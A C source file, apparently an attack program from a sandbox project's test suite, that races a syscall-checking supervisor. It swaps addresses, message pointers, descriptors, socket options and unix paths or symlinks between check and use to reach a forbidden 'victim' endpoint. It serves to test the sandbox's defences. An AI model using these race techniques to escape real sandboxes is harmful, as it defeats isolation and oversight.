/* race - change what the supervisor has checked before the kernel looks again (threats rows 1, 2, 18, 42)
 *
 * usage: race WHAT BY
 *   WHAT  connect, connect-udp, sendto, sendmsg, sendmsg-name, sendmmsg: the address is swapped between the permitted
 *         destination and the victim; fd-*: the descriptor is; addrform: the socket's family is; v6only: whether [::]
 *         takes IPv4, too; unix-*: a unix address
 *   BY    thread, shared (a process that shares the page), vm (a process that shares all memory), files (one that
 *         shares the descriptors) */
#include "attack.h"

#include <pthread.h>
#include <sched.h>
#include <sys/resource.h>

/* A race takes SECONDS, or $ATTACK_SECONDS; longer where one of the two sides hasn't had its turns by then. */
#define SECONDS 0.25
enum { PATIENCE = 30, SWAPS = 20 };

/* All that the racing side touches; one page that a fork can share. */
static struct race {
    _Alignas(16) struct sockaddr_in to;
    struct sockaddr_un unix_to;
    socklen_t unix_len[2];
    struct sockaddr_un unix_names[2];
    struct msghdr message;
    struct mmsghdr messages[2];
    struct iovec payload;
    struct sockaddr_in good, bad;
    int slot, benign, real; /* descriptors: the one that is used, and the two it alternates between */
    unsigned long swaps;
    bool stop;
} *race;

static void swap_address(void)
{
    __atomic_store_n(&race->to.sin_addr.s_addr, race->bad.sin_addr.s_addr, __ATOMIC_SEQ_CST);
    __atomic_store_n(&race->to.sin_addr.s_addr, race->good.sin_addr.s_addr, __ATOMIC_SEQ_CST);
}

static void swap_pointer(void)
{
    __atomic_store_n(&race->message.msg_name, &race->bad, __ATOMIC_SEQ_CST);
    __atomic_store_n(&race->message.msg_name, &race->good, __ATOMIC_SEQ_CST);
}

static void swap_unix(void)
{
    for (int i = 1; i >= 0; i--) {
        memcpy(race->unix_to.sun_path, race->unix_names[i].sun_path, sizeof race->unix_to.sun_path);
        __atomic_thread_fence(__ATOMIC_SEQ_CST); /* both are written, not the last alone */
    }
}

static void swap_descriptor(void)
{
    dup2(race->real, race->slot);
    dup2(race->benign, race->slot);
}

/* After a while that differs: else it is always done before the supervisor has looked at the socket at all. */
static void swap_family(void)
{
    int family = AF_INET;

    if (race->slot >= 0)
        for (volatile unsigned long wait = race->swaps * 37 % 20000; wait > 0; wait--)
            continue;
    setsockopt(race->slot, IPPROTO_IPV6, IPV6_ADDRFORM, &family, sizeof family);
}

static void swap_v6only(void)
{
    for (int only = 1; only >= 0; only--)
        setsockopt(race->slot, IPPROTO_IPV6, IPV6_V6ONLY, &only, sizeof only);
}

/* The link leads to the victim, then to our own; it is always there. */
static void swap_link(void)
{
    static const char *const targets[] = {"victim.stream", "own.stream"};
    char link[200], next[200];

    snprintf(link, sizeof link, "%s", in_dir("link"));
    snprintf(next, sizeof next, "%s", in_dir("node"));
    for (size_t i = 0; i < COUNT(targets); i++)
        if (symlink(targets[i], next) < 0 || rename(next, link) < 0)
            broken("cannot lead a link to %s: %s", targets[i], strerror(errno));
}

static int fresh(int family, int type)
{
    int s = socket(family, type | SOCK_CLOEXEC, 0);

    if (s < 0)
        broken("socket: %s", strerror(errno));
    return s;
}

static long call_connect(void)
{
    int s = fresh(AF_INET, SOCK_STREAM);
    long result = connect(s, (struct sockaddr *)&race->to, sizeof race->to);

    close(s);
    return result;
}

static long call_connect_udp(void)
{
    long result = connect(race->slot, (struct sockaddr *)&race->to, sizeof race->to);

    return result < 0 ? result : write(race->slot, "udp", 3);
}

static long call_sendto(void)
{
    return sendto(race->slot, "sendto", 6, MSG_DONTWAIT, (struct sockaddr *)&race->to, sizeof race->to);
}

static long call_sendmsg(void)
{
    return syscall(__NR_sendmsg, race->slot, &race->message, MSG_DONTWAIT); /* libc's would send a copy */
}

static long call_sendmmsg(void)
{
    return syscall(__NR_sendmmsg, race->slot, race->messages, 2, MSG_DONTWAIT);
}

static long call_fd_connect(void)
{
    long result = connect(race->slot, (struct sockaddr *)&race->bad, sizeof race->bad);

    if (result == 0) { /* the real socket is spent: a fresh one */
        close(race->real);
        race->real = fresh(AF_INET, SOCK_STREAM);
    }
    return result;
}

/* A port is taken at most: what makes it reachable is asked again. */
static long call_fd_bind(void)
{
    struct sockaddr_in to = at4(PERMITTED, 7410), own = {0};
    socklen_t len = sizeof own, type_len = sizeof(int);
    int type = SOCK_STREAM;
    long result = bind(race->slot, (struct sockaddr *)&to, sizeof to);

    if (getsockname(race->real, (struct sockaddr *)&own, &len) == 0 && own.sin_port == to.sin_port) {
        getsockopt(race->real, SOL_SOCKET, SO_TYPE, &type, &type_len);
        if ((type == SOCK_DGRAM || listen(race->real, 1) == 0) && escapes.used == 0)
            escape("has port 7410");
        close(race->real);
        race->real = fresh(AF_INET, type);
        return 0;
    }
    return result;
}

static long call_addrform(void)
{
    struct sockaddr_in6 peer = at6("::ffff:" PERMITTED, PORT);
    struct sockaddr_in bad = race->bad;
    int s = fresh(AF_INET6, SOCK_DGRAM);
    long result;

    bad.sin_family = AF_UNSPEC; /* no address to an IPv6 socket, an IPv4 address to an IPv4 one */
    if (connect(s, (struct sockaddr *)&peer, sizeof peer) < 0)
        broken("connect: %s", strerror(errno));
    race->slot = s;
    result = sendto(s, "addrform", 8, MSG_DONTWAIT, (struct sockaddr *)&bad, sizeof bad);
    sendto(s, "addrform", 8, MSG_DONTWAIT, (struct sockaddr *)&bad, sizeof bad);
    race->slot = -1;
    close(s);
    return result;
}

/* To take the port for IPv6 is permitted, not for IPv4 as well. */
static long call_v6only(void)
{
    struct sockaddr_in6 to = at6("::", 7410);
    int only = 1, s = fresh(AF_INET6, SOCK_DGRAM);
    socklen_t len = sizeof only;

    race->slot = s;
    long result = bind(s, (struct sockaddr *)&to, sizeof to);
    race->slot = -1;
    if (result == 0 && getsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &only, &len) == 0 && only == 0 && escapes.used == 0)
        escape("takes UDP port 7410 of IPv4");
    close(s);
    return result;
}

static long unix_connect(const char *name, const struct sockaddr_un *to, socklen_t len)
{
    int s = fresh(AF_UNIX, SOCK_STREAM);
    struct sockaddr_un a;
    long result;

    if (name != NULL) {
        len = at_unix(&a, name);
        to = &a;
    }
    result = connect(s, (const struct sockaddr *)to, len);
    close(s);
    if (result == 0) {
        int taken = accept(race->real, NULL, NULL); /* ours is non-blocking */
        if (taken >= 0)
            close(taken);
    }
    return result;
}

static long call_unix(void)
{
    return unix_connect(NULL, &race->unix_to, race->unix_len[0]);
}

static long call_unix_link(void)
{
    return unix_connect(in_dir("link"), NULL, 0);
}

static long call_unix_dgram(void)
{
    char drained[8];
    long result = sendto(race->slot, "dgram", 5, MSG_DONTWAIT, (struct sockaddr *)&race->unix_to, race->unix_len[0]);
    int error = errno;

    while (recv(race->real, drained, sizeof drained, MSG_DONTWAIT) >= 0)
        ;
    errno = error;
    return result;
}

static void ready_udp(void)
{
    race->slot = fresh(AF_INET, SOCK_DGRAM);
}

static void ready_tcp_slot(void)
{
    int pair[2];

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        broken("socketpair: %s", strerror(errno));
    race->benign = pair[0];
    race->real = fresh(AF_INET, SOCK_STREAM);
    race->slot = dup(race->benign);
}

static void ready_netlink_tcp(void)
{
    race->benign = fresh(AF_NETLINK, SOCK_DGRAM);
    race->real = fresh(AF_INET, SOCK_STREAM);
    race->slot = dup(race->benign);
}

static void ready_unix_udp(void)
{
    ready_tcp_slot();
    race->real = fresh(AF_INET, SOCK_DGRAM);
    race->message.msg_name = &race->bad;
    race->to = race->bad;
}

static void ready_netlink_udp(void)
{
    ready_unix_udp();
    race->benign = fresh(AF_NETLINK, SOCK_DGRAM);
}

static void ready_tcp_udp(void)
{
    ready_unix_udp();
    race->benign = fresh(AF_INET, SOCK_STREAM);
    if (connect(race->benign, (struct sockaddr *)&race->good, sizeof race->good) < 0)
        broken("connect: %s", strerror(errno));
}

static void ready_no_slot(void)
{
    race->slot = -1;
}

/* Our own listener, and the victim's name of the same length: the swap changes nothing else. */
static void ready_unix(int type, const char *own, const char *victim)
{
    race->unix_len[0] = at_unix(&race->unix_names[0], own);
    race->unix_len[1] = at_unix(&race->unix_names[1], victim);
    race->unix_to = race->unix_names[0];
    race->slot = type == SOCK_DGRAM ? fresh(AF_UNIX, type) : -1;
    race->real = fresh(AF_UNIX, type | SOCK_NONBLOCK);
    if (bind(race->real, (struct sockaddr *)&race->unix_to, race->unix_len[0]) < 0)
        broken("cannot bind %s: %s", own, strerror(errno));
    if (type == SOCK_STREAM && listen(race->real, 1000) < 0)
        broken("cannot listen: %s", strerror(errno));
}

static void ready_unix_path(void)
{
    char own[200], victim[200];

    snprintf(own, sizeof own, "%s", in_dir("././/own.stream")); /* as long as the victim's */
    snprintf(victim, sizeof victim, "%s", in_dir("./victim.stream"));
    ready_unix(SOCK_STREAM, own, victim);
}

static void ready_unix_link(void)
{
    ready_unix_path();
    swap_link();
}

static void ready_unix_abstract(void)
{
    ready_unix(SOCK_STREAM, "@sandlock-my-own.stream", "@" VICTIM_UNIX ".stream");
}

static void ready_unix_dgram(void)
{
    ready_unix(SOCK_DGRAM, "@sandlock-my-own.dgram", "@" VICTIM_UNIX ".dgram");
}

static const struct kind {
    const char *name;
    void (*ready)(void);
    long (*call)(void);
    void (*swap)(void);
    bool permitted_half; /* every other call is a permitted one: some must have succeeded */
} kinds[] = {
    {"connect", NULL, call_connect, swap_address, true},
    {"connect-udp", ready_udp, call_connect_udp, swap_address, true},
    {"sendto", ready_udp, call_sendto, swap_address, true},
    {"sendmsg", ready_udp, call_sendmsg, swap_address, true},
    {"sendmsg-name", ready_udp, call_sendmsg, swap_pointer, true},
    {"sendmmsg", ready_udp, call_sendmmsg, swap_address, true},
    {"fd-unix-connect", ready_tcp_slot, call_fd_connect, swap_descriptor, false},
    {"fd-netlink-connect", ready_netlink_tcp, call_fd_connect, swap_descriptor, false},
    {"fd-unix-bind", ready_tcp_slot, call_fd_bind, swap_descriptor, false},
    {"fd-unix-bind-udp", ready_unix_udp, call_fd_bind, swap_descriptor, false},
    {"fd-unix-sendto", ready_unix_udp, call_sendto, swap_descriptor, false},
    {"fd-unix-sendmsg", ready_unix_udp, call_sendmsg, swap_descriptor, false},
    {"fd-unix-sendmmsg", ready_unix_udp, call_sendmmsg, swap_descriptor, false},
    {"fd-netlink-sendto", ready_netlink_udp, call_sendto, swap_descriptor, false},
    {"fd-netlink-sendmsg", ready_netlink_udp, call_sendmsg, swap_descriptor, false},
    {"fd-tcp-sendto", ready_tcp_udp, call_sendto, swap_descriptor, false},
    {"addrform", ready_no_slot, call_addrform, swap_family, true},
    {"v6only", ready_no_slot, call_v6only, swap_v6only, true},
    {"unix-path", ready_unix_path, call_unix, swap_unix, true},
    {"unix-link", ready_unix_link, call_unix_link, swap_link, true},
    {"unix-abstract", ready_unix_abstract, call_unix, swap_unix, true},
    {"unix-dgram", ready_unix_dgram, call_unix_dgram, swap_unix, true},
};

/* The side that calls is slow, on the processor where the other is quick: that one has its turns whenever the call is
 * somewhere in between, however many processors there are and whoever else uses them. */
static void share_processor(bool slow)
{
    cpu_set_t set;
    unsigned first = 0;

    if (sched_getaffinity(0, sizeof set, &set) == 0) {
        while (first < CPU_SETSIZE - 1 && !CPU_ISSET(first, &set))
            first++;
        CPU_ZERO(&set);
        CPU_SET(first, &set);
        sched_setaffinity(0, sizeof set, &set);
    }
    if (slow)
        setpriority(PRIO_PROCESS, 0, 19);
}

static int swap_forever(void *kind)
{
    share_processor(false);
    while (!__atomic_load_n(&race->stop, __ATOMIC_SEQ_CST)) {
        ((const struct kind *)kind)->swap();
        __atomic_add_fetch(&race->swaps, 1, __ATOMIC_SEQ_CST);
    }
    return 0;
}

static void *swap_thread(void *kind)
{
    swap_forever(kind);
    return NULL;
}

/* Start the other side. false: it was refused, and that is the answer. */
static bool start(const struct kind *kind, const char *by, pid_t *child)
{
    static char stack[65536] __attribute__((aligned(16)));
    pthread_t thread;
    int flags = strcmp(by, "files") == 0 ? CLONE_FILES : CLONE_VM;

    if (strcmp(by, "thread") == 0) {
        if (pthread_create(&thread, NULL, swap_thread, (void *)(uintptr_t)kind) != 0)
            broken("no thread");
        return true;
    }
    if (strcmp(by, "shared") != 0) {
        *child = clone(swap_forever, stack + sizeof stack, flags | SIGCHLD, (void *)(uintptr_t)kind);
        if (*child < 0)
            answer("clone: %s", strerror(errno));
        return *child > 0;
    }
    *child = fork();
    if (*child == 0)
        _exit(swap_forever((void *)(uintptr_t)kind));
    return true;
}

static void race_init(void)
{
    race = shared_memory(sizeof *race);
    race->good = race->to = at4(PERMITTED, PORT);
    race->bad = at4(VICTIM, PORT);
    race->payload = (struct iovec){"sendmsg", 7};
    race->message = (struct msghdr){.msg_name = &race->to, .msg_namelen = sizeof race->to, .msg_iov = &race->payload,
                                    .msg_iovlen = 1};
    race->messages[0].msg_hdr = race->messages[1].msg_hdr = race->message;
}

/* Whether the race may go on: its time isn't up, or on a busy machine one side has hardly run. */
static bool goes_on(const struct kind *kind, double began, unsigned long done)
{
    const char *text = getenv("ATTACK_SECONDS");
    double seconds = text ? atof(text) : SECONDS, past = now() - began;
    bool fair = __atomic_load_n(&race->swaps, __ATOMIC_SEQ_CST) >= SWAPS && (done > 0 || !kind->permitted_half);

    return past < seconds || (!fair && past < PATIENCE);
}

int main(int argc, char **argv)
{
    const struct kind *kind = NULL;
    unsigned long calls = 0, done = 0, refused = 0;
    pid_t child = 0;

    for (size_t i = 0; argc == 3 && i < COUNT(kinds); i++)
        if (strcmp(argv[1], kinds[i].name) == 0)
            kind = &kinds[i];
    if (kind == NULL)
        broken("usage: race WHAT BY");
    race_init();
    if (kind->ready)
        kind->ready();
    if (!start(kind, argv[2], &child))
        return attack_done();
    share_processor(true);
    for (double began = now(); goes_on(kind, began, done); calls++) {
        if (kind->call() >= 0)
            done++;
        else
            refused += errno == ECONNREFUSED;
    }
    race->stop = true;
    if (child > 0)
        kill(child, SIGKILL);
    if (race->swaps < SWAPS)
        broken("the other side had only %lu turns", race->swaps);
    if (kind->permitted_half && done == 0)
        broken("of %lu calls none succeeded: %s", calls, strerror(errno));
    answer("%lu calls, %lu succeeded, %lu ECONNREFUSED", calls, done, refused);
    return attack_done();
}
